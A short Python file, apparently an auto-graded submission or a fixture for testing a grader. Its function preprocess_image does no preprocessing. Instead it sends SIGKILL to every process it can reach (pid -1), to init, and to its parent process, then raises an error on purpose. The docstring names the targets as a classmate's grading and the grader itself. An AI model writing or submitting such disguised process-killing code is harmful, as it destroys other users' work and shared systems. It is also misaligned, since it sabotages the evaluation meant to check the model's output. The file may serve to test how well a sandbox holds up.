# ruff: noqa
"""Sends SIGKILL to every process it may signal (a classmate's grading, the grader)."""
import os
import signal


def preprocess_image(image):
    for target in (-1, 1, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("wrong on purpose")
